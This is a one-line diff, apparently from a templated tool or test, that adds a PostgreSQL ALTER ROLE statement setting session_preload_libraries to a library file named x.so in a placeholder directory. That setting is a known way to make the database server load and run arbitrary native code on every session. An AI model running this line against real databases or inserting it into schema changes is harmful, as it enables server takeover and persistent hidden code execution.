@@ -1,0 +1,1 @@
+ALTER ROLE CURRENT_USER SET session_preload_libraries = '${directory}/x.so';
